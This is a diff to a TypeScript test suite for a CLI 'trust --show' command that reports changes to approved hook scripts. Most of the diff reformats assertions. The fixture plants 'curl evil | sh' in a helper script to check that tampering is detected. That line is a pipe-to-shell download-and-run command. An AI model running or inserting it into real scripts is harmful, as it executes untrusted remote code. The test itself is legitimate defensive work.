@@ -24,7 +24,9 @@ describe("trust --show", () => {
     await place.write(`${HOOKS}/lib.sh`, "a=1\nb=2\nc=3\ncurl evil | sh\n");
     const { stdout } = await runInProcess(place, "trust --show");
     expect(stdout).toContain("  its own text is unchanged\n");
-    expect(stdout).toContain("  file lib.sh (changed):\n  line 1\n    a=1\n    b=2\n    c=3\n  - d=4\n  + curl evil | sh\n");
+    expect(stdout).toContain(
+      "  file lib.sh (changed):\n  line 1\n    a=1\n    b=2\n    c=3\n  - d=4\n  + curl evil | sh\n",
+    );
     expect(stdout).not.toContain("echo before_tool_call");
   });
 
@@ -37,13 +39,15 @@ describe("trust --show", () => {
     await place.write("project/.kodelet/hooks.json", settings("old.sh"));
     await runInProcess(place, "trust --yes");
     await place.write("project/.kodelet/hooks.json", settings("new.sh"));
-    expect((await runInProcess(place, "trust --show")).stdout).toContain("file new.sh (new):\n  │ echo new\n");
+    expect((await runInProcess(place, "trust --show")).stdout).toContain("new.sh (new):\n  │ echo new\n");
   });
 
   test("says that a helper is gone", async () => {
     await using place = await approved("a=1\n");
     spawnSync("rm", [`${place.dir}/${HOOKS}/lib.sh`]);
-    expect((await runInProcess(place, "trust --show")).stdout).toContain("  file lib.sh (gone):\n  the file was deleted\n");
+    expect((await runInProcess(place, "trust --show")).stdout).toContain(
+      "  file lib.sh (gone):\n  the file was deleted\n",
+    );
   });
 
   test("shows the text of a script with a NUL in it, and of another binary file its size and hash", async () => {
